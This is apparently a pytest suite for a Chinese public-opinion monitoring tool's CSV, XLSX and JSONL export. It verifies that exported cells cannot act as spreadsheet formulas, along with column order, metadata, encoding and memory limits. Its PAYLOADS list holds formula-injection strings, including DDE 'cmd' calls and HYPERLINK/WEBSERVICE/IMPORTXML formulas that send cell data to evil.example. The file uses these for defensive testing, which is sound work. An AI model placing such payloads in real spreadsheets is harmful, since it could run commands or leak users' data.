import codecs
import csv
import io
import json
import re
import tracemalloc
import unicodedata
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from console.cells import plain
from console.export import COLUMNS, FORMS, NATURE, NOTHING, Cover, Register, product_version
from minsheng.correcting import Change, corrected
from minsheng.domain import Department, Kind, Project, Source

MADE = datetime(2026, 3, 10, 4, 5, 6, tzinfo=UTC)
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=",
    "-",
    "+86",
    "@市长热线",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"点我")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMAGE("http://evil.example/1.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=#REF!",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t路灯坏了",
    "\r路灯坏了",
    " =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "＝１＋１",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1+1)",
    "−1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    '",=1+1',
    "=1+1\ud83d",
)
WHO = re.compile(r"作者|用户|昵称|发言人|发帖人|网友|账号|头像|姓名|author|user|nick|poster|uid", re.IGNORECASE)


def register(**names: str) -> Register:
    office = Department("housing", "市住建局", ())
    project = Project("road", names.get("project", "滨河路改造"), (), "城东区", office)
    source = Source("forum", names.get("source", "临江论坛"), Kind.PUBLIC, "http://forum.example/")
    return Register({"road": project}, {"forum": source})


def cover(**values: object) -> Cover:
    return replace(Cover("词语：路灯", MADE, 1, False, "9.9", "/search?q=路灯"), **values)  # type: ignore[arg-type]


def written(form: str, posts, front: Cover | None = None, names: Register | None = None) -> bytes:
    return b"".join(FORMS[form].write(iter(posts), front or cover(), names or register()))


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def json_rows(content: bytes) -> list[dict]:
    return [json.loads(line) for line in content.decode("utf-8").split("\n")[:-1]]


def sheets(content: bytes) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(content))
    return {sheet.title: list(sheet.iter_rows()) for sheet in book.worksheets}


def bait(make_labelled, payload: str):
    """A post that carries a payload in every text that it has."""
    return make_labelled(
        payload,
        title=payload,
        url=payload,
        id=payload,
        source=payload,
        cluster=payload,
        model=payload,
        projects=(payload,),
        topic=payload,
        aspect=payload,
        intent=payload,
    )


def is_calculated(cell: str) -> bool:
    """What a credulous spreadsheet would do: fold, skip what cannot be seen, and calculate after a sign."""
    visible = [char for char in unicodedata.normalize("NFKC", cell) if unicodedata.category(char)[0] not in "ZC"]
    return cell[:1] in {"\t", "\r", "\n"} or (bool(visible) and visible[0] in "=+-@−")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_in_csv(make_labelled, payload):
    content = written("csv", [bait(make_labelled, payload)], names=register(project=payload))

    row = dict(zip(COLUMNS, csv_rows(content)[-1], strict=True))
    texts = [
        row[name]
        for name in COLUMNS
        if name not in {"类型", "情感", "人工更正"} and not name.endswith(("概率", "把握", ")"))
    ]
    assert texts == ["'" + plain(payload)] * 11
    assert [cell for line in csv_rows(content) for cell in line if is_calculated(cell)] == []


def test_registered_names_that_look_like_formulas_are_neutralised_too(make_labelled):
    content = written("csv", [make_labelled("好")], names=register(project="=1+1", source="@来源"))

    assert csv_rows(content)[-1][1:3] == ["'=1+1", "'@来源"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_in_a_workbook(make_labelled, payload):
    content = written("xlsx", [bait(make_labelled, payload)], cover(searched=payload, address=payload))

    cells = [cell for rows in sheets(content).values() for row in rows for cell in row if cell.value is not None]
    baited = [cell for cell in sheets(content)["结果"][1] if cell.value == plain(payload)]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert len(baited) == 11
    assert all(cell.quotePrefix and cell.number_format == "@" for cell in baited)
    assert "<f" not in parts(content, "worksheets")


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "#DIV/0!", "TRUE", "1", "1e5", "2026-03-01", "12%", "0012"])
def test_what_looks_like_an_error_a_number_or_a_date_stays_a_text_in_a_workbook(make_labelled, text):
    content = written("xlsx", [make_labelled(text)])

    cell = sheets(content)["结果"][1][COLUMNS.index("正文")]
    assert (cell.data_type, cell.value) == ("s", text)


def test_a_workbook_has_no_macros_links_or_names(make_labelled):
    content = written("xlsx", [make_labelled('=HYPERLINK("http://evil.example/")')])

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
    assert [name for name in names if re.search("vba|external|connections|embeddings|/_rels/sheet", name)] == []
    assert "<definedName " not in parts(content, "workbook.xml")


def test_ordinary_texts_are_not_touched_in_csv(make_labelled):
    texts = ["路灯坏了，没人修", "3-5 号楼停水", "5=五", "“=1+1”是什么意思", '1,"2"\n3', "'路灯'", " 前面有空格"]

    content = written("csv", [make_labelled(text) for text in texts])

    assert [row[5] for row in csv_rows(content)[-len(texts) :]] == texts


def test_numbers_are_numbers(make_labelled):
    post = make_labelled(negative=0.123456, neutral=0.5, positive=0.376544)

    row, line = sheets(written("xlsx", [post]))["结果"][1], written("csv", [post]).split(b"\r\n")[-2].decode()
    (_, record) = json_rows(written("jsonl", [post]))

    places = slice(COLUMNS.index("把握"), COLUMNS.index("正面概率") + 1)
    assert [cell.value for cell in row[places]] == [0.5, 0.1235, 0.5, 0.3765]
    assert ",0.5,0.1235,0.5,0.3765," in line
    assert record["负面概率"] == 0.1235


@pytest.mark.parametrize("form", FORMS)
def test_all_columns_stand_in_their_documented_order(make_labelled, form):
    post = make_labelled(
        "路灯坏了",
        title="反映问题",
        intent="complaint",
        unsure=True,
        published_at=datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
    )

    content = written(form, [post])

    header, row = {
        "csv": lambda: csv_rows(content)[-2:],
        "xlsx": lambda: [[cell.value for cell in line] for line in sheets(content)["结果"]],
        "jsonl": lambda: [list(json_rows(content)[1]), list(json_rows(content)[1].values())],
    }[form]()
    assert tuple(header) == COLUMNS
    assert ["" if cell is None else str(cell) for cell in row] == [
        post.post.id, "滨河路改造", "临江论坛", "评论", "反映问题", "路灯坏了", "2026-03-02 00:30:00", "2026-03-10 12:00:00",
        post.post.url, "拿不准", "0.9", "0.9", "0.05", "0.05", "城乡建设", "工程质量", "投诉反映", post.post.id, "test", "",
    ]  # fmt: skip


def test_the_columns_are_those_that_are_documented():
    from pathlib import Path

    text = (Path(__file__).parents[2] / "docs" / "export.md").read_text(encoding="utf-8")

    assert tuple(re.findall(r"^\| (\S+) \|", text, re.MULTILINE))[: len(COLUMNS) + 1] == ("列", *COLUMNS)


@pytest.mark.parametrize("form", FORMS)
def test_nobody_who_wrote_has_a_column(make_labelled, form):
    content = written(form, [make_labelled()])

    titles = {
        "csv": lambda: csv_rows(content)[-2],
        "xlsx": lambda: [cell.value for cell in sheets(content)["结果"][0]],
        "jsonl": lambda: list(json_rows(content)[1]),
    }[form]()
    assert len(titles) == 20
    assert [title for title in (*titles, *front_of(form, content)) if WHO.search(title)] == []


def test_what_is_no_longer_registered_keeps_its_id(make_labelled):
    content = written("csv", [make_labelled(source="old", projects=("road", "gone"), topic="new", aspect="new")])

    row = csv_rows(content)[-1]
    assert (row[1], row[2], row[14], row[15]) == ("滨河路改造、gone", "old", "new", "new")


@pytest.mark.parametrize("form", FORMS)
def test_the_cover_says_what_was_searched_when_how_many_and_that_these_are_not_residents(make_labelled, form):
    content = written(form, [make_labelled()], cover(posts=12345, folded=True))

    said = front_of(form, content)
    assert said["检索条件"] == "词语：路灯"
    assert said["检索地址"] == "/search?q=路灯"
    assert said["导出时间"] == "2026-03-10 12:05:06（北京时间）"
    assert said["条数"] == "12,345 条"
    assert said["重复内容"] == "几乎相同的只列最早一条"
    assert said["产品版本"] == "民声 9.9"
    assert said["性质"] == NATURE
    assert "不能代表全体居民" in NATURE


@pytest.mark.parametrize("form", FORMS)
def test_a_file_without_hits_says_so_and_has_its_columns(form):
    content = written(form, [], cover(posts=0, searched=""))

    said = front_of(form, content)
    columns = {
        "csv": lambda: csv_rows(content)[-1],
        "xlsx": lambda: [cell.value for cell in sheets(content)["结果"][0]],
        "jsonl": lambda: json_rows(content)[0]["说明"]["列"],
    }[form]()
    assert NOTHING in said["条数"]
    assert said["检索条件"] == "全部"
    assert tuple(columns) == COLUMNS


def test_line_breaks_in_what_was_searched_do_not_lengthen_the_head_of_a_csv():
    rows = csv_rows(written("csv", [], cover(searched="路灯\r\n=1+1\n停水")))

    assert [row[0].split("：")[0] for row in rows[:7]] == [f"# {title}" for title, _ in cover().lines]
    assert rows[0] == ["# 检索条件：路灯 =1+1 停水"]
    assert len(rows) == 8


def test_an_export_is_refused_a_time_without_zone():
    with pytest.raises(ValueError, match="aware"):
        cover(made_at=MADE.replace(tzinfo=None))


def test_a_csv_is_utf8_with_one_bom_and_crlf(make_labelled):
    content = written("csv", [make_labelled("第一行\r\n第二行")] * 1200)

    assert content.startswith(codecs.BOM_UTF8)
    assert content.count(codecs.BOM_UTF8) == 1
    assert content.replace(b"\r\n", b"").count(b"\r") == 0
    assert content.count(b"\r\n") == 1200 + 8
    assert len(csv_rows(content)) == 1200 + 8


@pytest.mark.parametrize("form", FORMS)
def test_half_emoji_control_signs_and_odd_line_breaks_do_not_spoil_a_file(make_labelled, form):
    content = written(form, [make_labelled("灯\ud83d坏\x00\x07\x1b了\ufffe\u2028停\x85水\r\n👍🏽")])

    text = {
        "csv": lambda: csv_rows(content)[-1][5],
        "xlsx": lambda: sheets(content)["结果"][1][5].value,
        "jsonl": lambda: json_rows(content)[1]["正文"],
    }[form]()
    assert text == "灯\ufffd坏了\n停\n水\n👍🏽"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_jsonl_keeps_texts_as_they_are_and_one_object_a_line(make_labelled, payload):
    content = written("jsonl", [bait(make_labelled, payload)])

    assert len(content.decode("utf-8").splitlines()) == 2
    assert json_rows(content)[1]["正文"] == plain(payload)


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_the_first_rows_leave_before_the_last_are_read(make_labelled, form):
    read = []

    def posts():
        for number in range(5000):
            read.append(number)
            yield make_labelled()

    chunks = FORMS[form].write(posts(), cover(), register())
    _ = [next(chunks) for _ in range(3)]

    assert 0 < len(read) <= 1000


def test_a_workbook_lets_its_reader_stop_before_it_is_whole(make_labelled, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    chunks = FORMS["xlsx"].write((make_labelled() for _ in range(5000)), cover(), register())

    first = next(chunks)
    begun = list(tmp_path.iterdir())
    chunks.close()

    assert first == b""
    assert len(begun) >= 1
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_fifty_thousand_rows_need_no_memory_of_their_own(make_labelled, form):
    size, peak = traced(make_labelled, form, 50_000)

    assert size > 10_000_000
    assert peak < 40_000_000


def test_a_workbook_needs_no_memory_for_more_rows(make_labelled):
    _, few = traced(make_labelled, "xlsx", 600)
    _, many = traced(make_labelled, "xlsx", 3000)

    assert many + (many - few) / 2400 * 47_000 < 40_000_000, "at this growth 50,000 rows would take more"


def traced(make_labelled, form: str, rows: int) -> tuple[int, int]:
    """Return the size of a file and the most memory that Python held while it was written."""
    post = make_labelled("施工噪声扰民，夜里十一点还在打桩，反映多次无人处理" * 3)
    posts = (replace(post, post=replace(post.post, id=f"forum:{number}")) for number in range(rows))
    tracemalloc.start()
    try:
        size = sum(map(len, FORMS[form].write(posts, cover(posts=rows), register())))
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_the_version_is_that_of_the_installed_product():
    assert re.fullmatch(r"\d+\.\d+.*", product_version())


def front_of(form: str, content: bytes) -> dict[str, str]:
    if form == "xlsx":
        return {row[0].value: row[1].value for row in sheets(content)["说明"]}
    if form == "jsonl":
        return json_rows(content)[0]["说明"]
    return dict(row[0].removeprefix("# ").split("：", 1) for row in csv_rows(content) if row[0].startswith("# "))


def parts(content: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(part).decode("utf-8") for part in archive.namelist() if name in part)


@pytest.mark.parametrize("form", FORMS)
def test_what_a_person_corrected_is_said_with_what_the_model_had_read(make_labelled, now, form):
    changes = [Change("sentiment", ("positive",)), Change("project", ()), Change("topic", ("health",))]
    post = corrected(make_labelled("路灯坏了", unsure=True), changes, now)
    post = replace(post, post=replace(post.post, text="路灯修好了"))

    content = written(form, [post])

    row = {
        "csv": lambda: dict(zip(COLUMNS, csv_rows(content)[-1], strict=True)),
        "xlsx": lambda: dict(zip(COLUMNS, (cell.value for cell in sheets(content)["结果"][1]), strict=True)),
        "jsonl": lambda: json_rows(content)[1],
    }[form]()
    assert (row["情感"], row["项目"] or "", row["主题"]) == ("正面", "", "卫生计生")
    assert row["人工更正"] == "情感（模型：拿不准）、主题（模型：城乡建设）、项目（模型：滨河路改造）；更正后原文已改"
    assert str(row["负面概率"]) == "0.9", "probabilities are always the model's"
